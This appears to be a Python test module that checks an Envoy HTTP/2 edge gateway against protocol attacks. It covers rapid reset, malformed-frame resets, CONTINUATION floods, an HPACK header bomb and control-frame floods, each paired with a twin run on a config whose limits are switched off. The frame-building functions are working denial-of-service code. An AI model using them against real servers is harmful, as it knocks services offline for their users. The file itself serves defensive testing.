"""A1 to A4, A10: HTTP/2 attacks on the edge, each with what must come of it and a twin.

An attack gives how far it got before the connection ended. Its twin is the same attack on an Envoy
without the control; where the codec itself is the control, which nothing turns off, the twin is the
nearest legal traffic, which must live.
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import hpack

from tests.attacks.frames import (
    CONTINUATION,
    DATA,
    EMPTY_MESSAGE,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    QUERY,
    RST_STREAM,
    SETTINGS,
    UPLOAD,
    WINDOW_UPDATE,
    Attacker,
    attacker,
    call_headers,
    frame,
)
from tests.gateway.weakened import Json, manager, routes

CANCEL = 8
_BATCH = 50
BUFFERS_BYTES = 12_000_000


@dataclass(frozen=True)
class Target:
    """Where an attack goes, and with which token."""

    port: int
    ca_file: Path
    token: str


@dataclass(frozen=True)
class Figure:
    """How far an attack got: frames or streams taken, the bytes sent, and whether the connection lived."""

    taken: int
    sent_bytes: int
    lived: bool


@dataclass(frozen=True)
class Attack:
    """One attack: `run(target, size)`, with the size that the twin withstands."""

    row: str
    name: str
    run: Callable[[Target, int], Figure]
    size: int
    # Most that may be taken before the connection ends; None where only the kernel's buffers bound what can
    # still be sent to an edge that has stopped reading.
    bound: int | None
    # The nearest legal traffic, where the codec is the control.
    legal: Callable[[Target, int], Figure] | None = None
    # The size of `make attack-edge`.
    full: int = 1_000_000

    def holds(self, figure: Figure) -> bool:
        """Whether the connection ended soon enough."""
        soon = figure.sent_bytes <= BUFFERS_BYTES if self.bound is None else figure.taken <= self.bound
        return soon and not figure.lived


def unguarded(config: Json) -> None:
    """Turns off every control of the floods."""
    limits = manager(config)["http2_protocol_options"]
    for name in (
        "max_outbound_frames",
        "max_outbound_control_frames",
        "max_consecutive_inbound_frames_with_empty_payload",
        "max_inbound_priority_frames_per_stream",
        "max_inbound_window_update_frames_per_data_frame_sent",
    ):
        limits[name] = 100_000_000
    manager(config)["max_request_headers_kb"] = 8192
    manager(config)["common_http_protocol_options"]["max_headers_count"] = 1_000_000
    routes(config)[:] = [one for one in routes(config) if one.get("direct_response") != {"status": 431}]
    layer = config["layered_runtime"]["layers"][0]["static_layer"]
    layer["overload"] = {"premature_reset_total_stream_count": 100_000_000}


def rapid_reset(target: Target, size: int) -> Figure:
    """HEADERS and RST_STREAM in a loop."""

    def pair(one: Attacker) -> bytes:
        stream, headers = one.headers(call_headers(QUERY, target.token), END_HEADERS | END_STREAM)
        return headers + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))

    return _streams(target, size, pair, _BATCH)


def made_you_reset(make: Callable[[Attacker, int], bytes], *extra: tuple[str, str]) -> Callable[..., Figure]:
    """A call whose next frame makes the server reset it; `make` gives that frame."""

    def run(target: Target, size: int) -> Figure:
        def pair(one: Attacker) -> bytes:
            stream, headers = one.headers(call_headers(QUERY, target.token, *extra))
            return headers + make(one, stream)

        return _streams(target, size, pair, 1)

    return run


def frame_flood(
    one_frame: bytes, *, reads: bool = True, path: str = "", answered: bool = False
) -> Callable[..., Figure]:
    """The same frame again and again: on a stream of its own where a path is given, or after an answer."""

    def run(target: Target, size: int) -> Figure:
        buffer = 0 if reads else 4096
        with attacker(target.port, target.ca_file, receive_buffer=buffer) as one:
            if path:
                one.send(one.headers(call_headers(path, target.token))[1])
            if answered:
                stream, headers = one.headers(call_headers(QUERY, target.token))
                one.send(headers + _finish(stream))
                one.wait_for(DATA, 10)
            taken = 0
            while taken < size and one.send(one_frame * 1000, 20, read=reads):
                taken += 1000
            lived = one.sync(20) if reads else not one.wait(4)
            return Figure(taken, one.sent_bytes, lived)

    return run


def paced(one_frame: bytes) -> Callable[..., Figure]:
    """A hundred of a frame, their answers read, ten times."""

    def run(target: Target, size: int) -> Figure:
        with attacker(target.port, target.ca_file) as one:
            lived = all(one.send(one_frame * 100) and one.sync(20) for _ in range(10))
            return Figure(1000, one.sent_bytes, lived)

    return run


def endless_headers(piece: bytes) -> Callable[..., Figure]:
    """A header block that goes on and on, in CONTINUATION frames that hold `piece`."""

    def run(target: Target, size: int) -> Figure:
        with attacker(target.port, target.ca_file) as one:
            one.send(frame(HEADERS, 0, 1, one.block(call_headers(QUERY, target.token))))
            one.new_stream()
            more, taken = frame(CONTINUATION, 0, 1, piece), 0
            while taken < size and one.send(more * 100, 20):
                taken += 100
            one.send(frame(CONTINUATION, END_HEADERS, 1))
            lived = one.sync(20)
            return Figure(taken, one.sent_bytes, lived)

    return run


def block_of(make: Callable[[Target, int], bytes]) -> Callable[..., Figure]:
    """One call whose header block is `make`'s; what was taken is 1 if the call was, and not reset."""

    def run(target: Target, size: int) -> Figure:
        with attacker(target.port, target.ca_file) as one:
            block, first = make(target, size), HEADERS
            while block:
                piece, block = block[:16384], block[16384:]
                one.send(frame(first, END_STREAM * (first == HEADERS) | END_HEADERS * (not block), 1, piece))
                first = CONTINUATION
            lived = one.sync(20) and not one.resets
            return Figure(int(lived), one.sent_bytes, lived)

    return run


def _bomb(target: Target, size: int) -> bytes:
    encoder = hpack.Encoder()
    block = bytes(encoder.encode([*call_headers(QUERY, target.token), ("x-bomb", "c" * 3500)]))
    return block + bytes(encoder.encode([("x-bomb", "c" * 3500)])) * size


def _plain_block(target: Target, _size: int) -> bytes:
    return bytes(hpack.Encoder().encode(call_headers(QUERY, target.token)))


def _padded_number(target: Target, size: int) -> bytes:
    return _plain_block(target, 0) + b"\xff" + b"\x80" * size + b"\0"


def _odd_te(target: Target, size: int) -> bytes:
    headers = [pair for pair in call_headers(QUERY, target.token) if pair[0] != "te"]
    return bytes(hpack.Encoder().encode([*headers, ("te", "x"), ("x-long", "a" * size)], huffman=False))


def _streams(target: Target, size: int, make: Callable[[Attacker], bytes], batch: int) -> Figure:
    with attacker(target.port, target.ca_file) as one:
        taken = 0
        while taken < size:
            one.send(b"".join(make(one) for _ in range(batch)))
            if not one.sync(20):
                break
            taken += batch
        return Figure(taken, one.sent_bytes, taken >= size)


def _window(increment: int) -> Callable[[Attacker, int], bytes]:
    return lambda _one, stream: frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", increment))


def _finish(stream: int) -> bytes:
    return frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)


_LEGAL = made_you_reset(
    lambda one, stream: (
        _window(1)(one, stream)
        + frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 1))
        + frame(DATA, 0, stream, EMPTY_MESSAGE)
        + frame(HEADERS, END_STREAM | END_HEADERS, stream, one.block([("x-trailer", "1")]))
    ),
    ("content-length", "5"),
)

_PING = frame(PING, 0, 0, bytes(8))
_SETTINGS = frame(SETTINGS, 0, 0)
_PRIORITY = frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 1))
_UPDATE = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
_MORE_HEADERS = bytes(hpack.Encoder().encode([("x-a", "b" * 100)]))

_update_of_0 = made_you_reset(_window(0))
_overflow = made_you_reset(lambda one, stream: _window(2**31 - 1)(one, stream) * 2)
_data_after_end = made_you_reset(lambda _one, stream: _finish(stream) * 2)
_wrong_length = made_you_reset(lambda _one, stream: _finish(stream), ("content-length", "3"))
_bad_trailers = made_you_reset(
    lambda one, stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, one.block([(":path", "/x")]))
)
_short_update = made_you_reset(lambda _one, stream: frame(WINDOW_UPDATE, 0, stream, b"abc"))
_endless = endless_headers(_MORE_HEADERS)
_a_hundred_more: Callable[[Target, int], Figure] = lambda target, _: _endless(target, 100)  # noqa: E731
_plain = block_of(_plain_block)

# The codec (nghttp2) has limits of its own behind ours, which the sizes of the twins stay below.
ATTACKS = (
    Attack("A1", "rapid reset", rapid_reset, 900, 500),
    Attack("A2", "window update of 0", _update_of_0, 20, 17, _LEGAL),
    Attack("A2", "window overflow", _overflow, 20, 17, _LEGAL),
    Attack("A2", "data after the end", _data_after_end, 20, 17, _LEGAL),
    Attack("A2", "length that does not fit", _wrong_length, 900, 500),
    Attack("A2", "pseudo-header in trailers", _bad_trailers, 20, 17, _LEGAL),
    Attack("A2", "window update of 3 bytes", _short_update, 20, 17, _LEGAL),
    Attack("A3", "endless CONTINUATION", _endless, 20_000, None, _a_hundred_more),
    Attack("A3", "endless empty CONTINUATION", endless_headers(b""), 50_000, None, _a_hundred_more),
    Attack("A3", "header table bomb", block_of(_bomb), 1_000, 0, full=100_000),
    Attack("A3", "padded number", block_of(_padded_number), 5_000, 0, _plain),
    Attack("A3", "te that is none, and 9 KB", block_of(_odd_te), 9_000, 0, _plain, full=9_000),
    Attack("A4", "PING, unread", frame_flood(_PING, reads=False), 200_000, None, paced(_PING)),
    Attack("A4", "SETTINGS, unread", frame_flood(_SETTINGS, reads=False), 200_000, None, paced(_SETTINGS)),
    Attack("A4", "PRIORITY", frame_flood(_PRIORITY), 20_000, None),
    Attack("A4", "WINDOW_UPDATE", frame_flood(_UPDATE, answered=True), 20_000, None),
    Attack("A4", "empty DATA", frame_flood(frame(DATA, 0, 1), path=UPLOAD), 20_000, None),
)
